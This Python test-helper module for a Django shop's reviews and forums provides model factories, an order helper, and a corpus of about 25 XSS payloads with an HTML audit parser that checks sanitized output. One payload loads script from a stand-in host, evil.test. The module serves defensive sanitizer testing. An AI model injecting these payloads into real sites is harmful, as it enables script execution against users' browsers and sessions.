"""Factories and helpers for the reviews, forums and text-signal tests (issue 5)."""

import re
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser

import factory
from django.utils import timezone

from shop.models import Order, OrderLine
from social.forums.models import ForumCategory
from social.textsignals.models import IntentRule
from tests.factories import CategoryFactory, ShippingMethodFactory, UserFactory


class OldUserFactory(UserFactory):
    """A shopper whose account is past the new-account period (links follow, normal limits)."""

    date_joined = factory.LazyFunction(lambda: timezone.now() - timedelta(days=60))


class ForumCategoryFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = ForumCategory
        django_get_or_create = ["slug"]

    name = factory.Sequence(lambda n: f"Forum {n}")
    slug = factory.Sequence(lambda n: f"forum-{n}")
    description = "Talk about things."


class IntentRuleFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = IntentRule

    phrase = "broke my"
    intent = IntentRule.Intent.REPLACEMENT
    category = factory.SubFactory(CategoryFactory, name="Cameras", slug="cameras")
    keywords = ""


def order_for(*, user, product, status=Order.Status.DELIVERED) -> Order:
    """An order of ``product`` by ``user``, as the checkout leaves it (verified-buyer source)."""
    order = Order.objects.create(
        number=f"T{Order.objects.count() + 1:06d}-{user.pk}",
        user=user,
        email=user.email,
        status=status,
        full_name="Test Buyer",
        line1="1 Street",
        city="Berlin",
        postcode="10115",
        shipping_method=ShippingMethodFactory(),
        subtotal=product.price,
        shipping_cost=Decimal("0"),
        total=product.price,
        payment_gateway="test",
        payment_reference="ref",
    )
    OrderLine.objects.create(
        order=order,
        product=product,
        product_name=product.name,
        sku=f"SKU-{product.pk}",
        unit_price=product.price,
        quantity=1,
        line_total=product.price,
    )
    return order


# --- XSS -------------------------------------------------------------------------------------

XSS_CORPUS = [
    "<script>alert('x1')</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert('x2')>",
    "<body onload=alert('x3')>",
    "<a href=\"javascript:alert('x4')\">click</a>",
    "[click](javascript:alert('x5'))",
    "[click](JaVaScRiPt:alert('x6'))",
    "[click](javascript&#58;alert('x7'))",
    "[click](&#106;avascript:alert('x8'))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[click](https://ok.test "title" onmouseover="alert(9)")',
    "![img](javascript:alert('x10'))",
    "<svg/onload=alert('x11')>",
    "<svg><script>alert('x12')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('x13')>",
    "<iframe src=javascript:alert('x14')></iframe>",
    "<style>body{background:url(javascript:alert('x15'))}</style>",
    "\"><script>alert('x16')</script>",
    "<<script>script>alert('x17')<</script>/script>",
    "<a href='x' style='position:fixed' onclick='alert(18)'>x</a>",
    "[x](<javascript:alert('x19')>)",
    "<div><p onclick=alert('x20')>unclosed",
    "<object data='data:text/html,<script>alert(21)</script>'></object>",
    "`<script>`alert('x22')",
    "<details open ontoggle=alert('x23')>",
]
DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "base"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcset"}


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.scripts: list[dict] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self.scripts.append(attrs)
        elif tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in URL_ATTRS and value:
                cleaned = "".join(value.split()).lower()
                if cleaned.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"{tag}[{name}={value[:30]}]")
            if name == "style" and not re.fullmatch(r"width: \d{1,3}%", value or ""):
                self.problems.append(f"{tag}[style]")

    handle_startendtag = handle_starttag


def assert_no_xss(html: str) -> None:
    """No event handler, dangerous URL or tag; the only scripts are the site's own."""
    audit = _Audit()
    audit.feed(html)
    audit.close()
    assert audit.problems == [], audit.problems
    for attrs in audit.scripts:
        own = attrs.get("type") == "application/ld+json" or (
            attrs.get("src", "").startswith("/static/")
        )
        assert own, f"unexpected script {attrs}"
    assert "alert(" not in _script_text(html)


def _script_text(html: str) -> str:
    """The text inside <script> elements (JSON-LD may hold user text, but never as markup)."""

    class _Scripts(HTMLParser):
        def __init__(self):
            super().__init__()
            self.inside = False
            self.text = []

        def handle_starttag(self, tag, attrs):
            self.inside = tag == "script" and dict(attrs).get("type") != "application/ld+json"

        def handle_endtag(self, tag):
            self.inside = False

        def handle_data(self, data):
            if self.inside:
                self.text.append(data)

    parser = _Scripts()
    parser.feed(html)
    return "".join(parser.text)
